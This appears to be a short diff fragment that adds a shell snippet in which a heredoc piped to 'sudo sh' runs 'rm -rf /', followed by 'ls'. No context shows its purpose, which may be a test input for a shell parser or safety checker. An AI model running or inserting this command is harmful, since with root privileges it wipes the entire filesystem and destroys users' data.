@@ -1,0 +1,4 @@
+cat <<-END | sudo sh
+	rm -rf /
+	END
+ls
